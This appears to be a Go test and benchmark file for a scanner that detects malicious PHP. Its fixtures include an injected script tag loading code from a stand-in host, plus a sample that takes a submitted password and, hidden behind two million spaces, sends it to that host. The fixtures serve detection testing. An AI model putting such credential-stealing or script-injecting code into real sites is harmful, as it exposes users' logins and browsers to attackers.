package php

import (
	"fmt"
	"strings"
	"testing"
)

// Literals that may show something are read up to a bound.
func TestLeadsBound(t *testing.T) {
	const script = `echo '<script src=//a.example.xyz/a.js></script>';`
	filler := "$a = '" + strings.Repeat("//<script ", 700) + "';\n"
	for n, want := range map[int]int{10: 1, 400: 0} {
		page := []byte("<?php " + strings.Repeat(filler, n) + script)
		if got := newMachine("a.php", page, traits(page)).leads(); len(got) != want {
			t.Errorf("behind %d literals: %d leads, want %d", n, len(got), want)
		}
	}
}

// BenchmarkHostile judges files that are made to take long.
func BenchmarkHostile(b *testing.B) {
	const script = `'<script src=//a.example.xyz/a.js></script>';`
	var round strings.Builder
	for i := range 1200 {
		fmt.Fprintf(&round, "a%d;", i)
	}
	var bodies strings.Builder
	for i := range 50 {
		fmt.Fprintf(&bodies, "function f%d() { %s $z = %s }\n", i, round.String(), script)
	}
	for name, page := range map[string][]byte{
		"literals": []byte("<?php $_COOKIE; " + strings.Repeat("$a = '"+strings.Repeat("//<script ", 700)+"';\n", 1000)),
		"leads":    []byte("<?php $_COOKIE; " + bodies.String() + strings.Repeat("b;", 2_000_000)),
		"spaces": []byte(`<?php $p = $_POST["password"]; // wp_signon(
			for ($i = 0; $i < 5000; $i++) {` + strings.Repeat(" ", 2_000_000) + `file_get_contents("http://a.example.xyz/?p=" . $p); }`),
	} {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(page)))
			for b.Loop() {
				Analyse("a.php", page)
			}
		})
	}
}
